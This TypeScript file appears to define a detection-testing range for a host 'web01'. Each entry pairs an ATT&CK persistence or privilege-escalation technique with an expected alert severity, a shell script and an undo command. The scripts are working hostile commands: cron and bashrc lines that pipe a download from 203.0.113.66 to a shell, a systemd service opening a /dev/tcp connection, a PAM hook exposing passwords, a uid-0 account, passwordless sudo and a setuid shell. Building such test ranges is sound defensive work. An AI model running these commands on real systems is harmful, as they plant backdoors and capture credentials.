/** Ways to come back, and ways to more rights. */
import { table } from './technique.ts';

export const persistence = table('web01', [
  {
    slug: 'range-cron-user',
    title: 'A user’s crontab fetches and runs a script',
    techniques: ['T1053.003'],
    expected: 'high',
    how: 'deploy lists the own crontab, and gives crontab a new one whose line pipes a download to sh.',
    user: 'deploy',
    script: "(crontab -l 2>/dev/null; echo '*/10 * * * * curl -fsS http://203.0.113.66:8000/u.sh | sh') | crontab -; crontab -l",
    undo: 'crontab -r -u deploy',
  },
  {
    slug: 'range-cron-system',
    title: 'A file of cron.d runs a hidden program of /tmp',
    techniques: ['T1053.003'],
    expected: 'high',
    how: 'The shell of root writes a file below /etc/cron.d that starts a hidden program of /tmp each minute, and makes it readable.',
    script:
      "echo '* * * * * root /tmp/.x/update >/dev/null 2>&1' > /etc/cron.d/sysupdate; chmod 644 /etc/cron.d/sysupdate; sleep 62",
    seconds: 90,
    undo: 'rm -f /etc/cron.d/sysupdate',
  },
  {
    slug: 'range-at-job',
    title: 'A job of at starts a hidden program',
    techniques: ['T1053.002'],
    expected: 'medium',
    how: 'deploy gives at a job that starts a hidden program of /tmp in a minute.',
    user: 'deploy',
    script: 'echo /tmp/.x/update | at now + 1 minute; atq',
    undo: 'atq | cut -f1 | xargs -r atrm',
  },
  {
    slug: 'range-systemd-service',
    title: 'A new service opens a connection to a stranger',
    techniques: ['T1543.002'],
    expected: 'high',
    how: 'root writes a unit with a name like a system service whose command opens /dev/tcp, reloads systemd, and enables and starts it.',
    script: `cat > /etc/systemd/system/dbus-helper.service <<'E'
[Unit]
Description=D-Bus helper
[Service]
ExecStart=/bin/bash -c 'exec 5<>/dev/tcp/203.0.113.66/4444; cat <&5'
Restart=always
RestartSec=30
[Install]
WantedBy=multi-user.target
E
systemctl daemon-reload; systemctl enable --now dbus-helper.service; sleep 1`,
    undo: 'systemctl disable --now dbus-helper.service; rm -f /etc/systemd/system/dbus-helper.service; systemctl daemon-reload',
  },
  {
    slug: 'range-systemd-timer',
    title: 'A new timer starts a hidden program',
    techniques: ['T1053.006'],
    expected: 'medium',
    how: 'root writes a timer and its service, which starts a hidden program of /var/tmp, and starts the timer.',
    script: `printf '[Service]\\nExecStart=/var/tmp/.cache/run\\n' | tee /etc/systemd/system/man-refresh.service
printf '[Timer]\\nOnCalendar=*:0/5\\n[Install]\\nWantedBy=timers.target\\n' | tee /etc/systemd/system/man-refresh.timer
systemctl daemon-reload; systemctl enable --now man-refresh.timer`,
    undo: 'systemctl disable --now man-refresh.timer; rm -f /etc/systemd/system/man-refresh.*; systemctl daemon-reload',
  },
  {
    slug: 'range-systemd-user-unit',
    title: 'A user’s own service, kept running without a login',
    techniques: ['T1543.002'],
    expected: 'medium',
    how: 'deploy writes a unit below ~/.config/systemd/user with tee, links it into default.target.wants, and asks logind to keep it running without a login.',
    user: 'deploy',
    script: `mkdir -p ~/.config/systemd/user/default.target.wants
printf '[Service]\\nExecStart=/home/deploy/.local/.x/agent\\n' | tee ~/.config/systemd/user/gpg-cache.service
ln -s ../gpg-cache.service ~/.config/systemd/user/default.target.wants/gpg-cache.service
sudo loginctl enable-linger deploy`,
    undo: 'loginctl disable-linger deploy; rm -rf /home/deploy/.config/systemd',
  },
  {
    slug: 'range-rc-local',
    title: 'rc.local starts a program at boot',
    techniques: ['T1037.004'],
    expected: 'medium',
    how: 'The shell of root writes /etc/rc.local with a line that starts a program of /var/tmp in the background, and makes it executable.',
    script: "printf '#!/bin/sh\\nnohup /var/tmp/.cache/run >/dev/null 2>&1 &\\n' > /etc/rc.local; chmod +x /etc/rc.local",
    undo: 'rm -f /etc/rc.local',
  },
  {
    slug: 'range-profile-script',
    title: 'A script of profile.d runs at each login',
    techniques: ['T1546.004'],
    expected: 'medium',
    how: 'The shell of root writes a script below /etc/profile.d that starts a program of /var/tmp in the background.',
    script: "echo '(/var/tmp/.cache/run &) 2>/dev/null' > /etc/profile.d/z-locale.sh",
    undo: 'rm -f /etc/profile.d/z-locale.sh',
  },
  {
    slug: 'range-bashrc',
    title: 'A user’s bashrc fetches and runs a script',
    techniques: ['T1546.004'],
    expected: 'medium',
    how: 'deploy appends a line to ~/.bashrc with tee that pipes a download to bash in the background.',
    user: 'deploy',
    script:
      'cp ~/.bashrc /tmp/.b; echo \'nohup bash -c "curl -fsS http://203.0.113.66:8000/u.sh | bash" >/dev/null 2>&1 &\' | tee -a ~/.bashrc',
    undo: 'cp /tmp/.b /home/deploy/.bashrc; rm -f /tmp/.b',
  },
  {
    slug: 'range-authorized-keys',
    title: 'A foreign key among root’s authorised keys',
    techniques: ['T1098.004'],
    expected: 'medium',
    how: 'The shell of root appends a public key to /root/.ssh/authorized_keys.',
    script:
      "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB2kq0PzVn3mXo1cYt4mK8v9s7r6q5p4o3n2m1l0k9j8 x@y' >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys",
    undo: 'rm -f /root/.ssh/authorized_keys',
  },
  {
    slug: 'range-pam-exec',
    title: 'PAM hands passwords to a program',
    techniques: ['T1556.003'],
    expected: 'high',
    how: 'root appends a line with pam_exec and expose_authtok to /etc/pam.d/common-auth with sed.',
    script:
      "cp /etc/pam.d/common-auth /tmp/.c; sed -i '$a auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/.l' /etc/pam.d/common-auth",
    undo: 'cp /tmp/.c /etc/pam.d/common-auth; rm -f /tmp/.c',
  },
  {
    slug: 'range-ld-preload',
    title: 'A library loaded into every program',
    techniques: ['T1574.006'],
    expected: 'high',
    how: 'root copies a harmless library of the C library to /usr/local/lib under another name, and the shell writes its path to /etc/ld.so.preload.',
    script:
      'cp /lib/x86_64-linux-gnu/libutil.so.1 /usr/local/lib/libsysq.so; echo /usr/local/lib/libsysq.so > /etc/ld.so.preload; id',
    undo: 'rm -f /etc/ld.so.preload /usr/local/lib/libsysq.so',
  },
  {
    slug: 'range-udev-rule',
    title: 'A udev rule starts a program',
    techniques: ['T1546.017'],
    expected: 'medium',
    how: 'root writes a rule below /etc/udev/rules.d with RUN+= and a program of /usr/local, and has udev read its rules again.',
    script:
      'echo \'ACTION=="add", ENV{MAJOR}=="1", RUN+="/usr/local/bin/.u"\' | tee /etc/udev/rules.d/75-random.rules; udevadm control --reload',
    undo: 'rm -f /etc/udev/rules.d/75-random.rules; udevadm control --reload',
  },
  {
    slug: 'range-motd-script',
    title: 'A script of the message of the day runs as root',
    techniques: ['T1546'],
    expected: 'medium',
    how: 'The shell of root writes a script below /etc/update-motd.d that starts a program of /var/tmp, and makes it executable.',
    script: "printf '#!/bin/sh\\n/var/tmp/.cache/run &\\n' > /etc/update-motd.d/20-news; chmod 755 /etc/update-motd.d/20-news",
    undo: 'rm -f /etc/update-motd.d/20-news',
  },
  {
    slug: 'range-apt-hook',
    title: 'A hook of apt runs a program',
    techniques: ['T1546.016'],
    expected: 'medium',
    how: 'root writes a Pre-Invoke hook below /etc/apt/apt.conf.d with tee, which starts a program of /var/tmp at each update.',
    script: `echo 'APT::Update::Pre-Invoke {"nohup /var/tmp/.cache/run 2>/dev/null &"};' | tee /etc/apt/apt.conf.d/42index`,
    undo: 'rm -f /etc/apt/apt.conf.d/42index',
  },
  {
    slug: 'range-kernel-module',
    title: 'A kernel module loaded from /tmp',
    techniques: ['T1547.006'],
    expected: 'high',
    how: 'root copies the kernel’s own module dummy to /tmp under another name, loads it with insmod, and lists the modules.',
    script: 'cp $(modinfo -n dummy) /tmp/.m.ko; insmod /tmp/.m.ko; lsmod | head -3',
    undo: 'rmmod dummy; rm -f /tmp/.m.ko',
  },
  {
    slug: 'range-git-hook',
    title: 'A hook of git runs at each commit',
    techniques: ['T1546'],
    expected: 'medium',
    how: 'deploy sets core.hooksPath for all repositories to a folder of /tmp and writes a hook there with tee; the next commit runs it.',
    user: 'deploy',
    script: `mkdir -p /tmp/.hooks; printf '#!/bin/sh\\nid >/tmp/.o\\n' | tee /tmp/.hooks/post-commit; chmod +x /tmp/.hooks/post-commit
git config --global core.hooksPath /tmp/.hooks
git init -q ~/site; cd ~/site; git -c user.name=d -c user.email=d@alder.example commit -q --allow-empty -m x`,
    undo: 'rm -rf /tmp/.hooks /tmp/.o /home/deploy/site /home/deploy/.gitconfig',
  },
  {
    slug: 'range-account-uid-zero',
    title: 'A new account with root’s id',
    techniques: ['T1136.001'],
    expected: 'high',
    how: 'root adds an account with useradd -o -u 0, and sets its password with chpasswd.',
    script: "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd; echo 'sysd:Range2026!' | chpasswd",
    undo: 'userdel -f sysd',
  },
  {
    slug: 'range-account-admin',
    title: 'A new account that may do everything with sudo',
    techniques: ['T1136.001', 'T1098.007'],
    expected: 'medium',
    how: 'deploy adds an account with sudo useradd, sets its password, and puts it into the group sudo.',
    user: 'deploy',
    script: "sudo useradd -m -s /bin/bash support; echo 'support:Range2026!' | sudo chpasswd; sudo usermod -aG sudo support",
    undo: 'userdel -r -f support',
  },
  {
    slug: 'range-sudoers-right',
    title: 'A right without a password for a service account',
    techniques: ['T1548.003'],
    expected: 'high',
    how: 'The shell of root writes a file below /etc/sudoers.d that gives www-data everything without a password.',
    script: "echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-web; chmod 440 /etc/sudoers.d/90-web",
    undo: 'rm -f /etc/sudoers.d/90-web',
  },
  {
    slug: 'range-setuid-shell',
    title: 'A shell copied with the setuid bit',
    techniques: ['T1548.001'],
    expected: 'high',
    how: 'root copies bash to /var/tmp under a hidden name and sets its setuid bit; ann starts it with -p.',
    script: 'cp /bin/bash /var/tmp/.b; chmod 4755 /var/tmp/.b; runuser -u ann -- /var/tmp/.b -p -c id',
    undo: 'rm -f /var/tmp/.b',
  },
]);
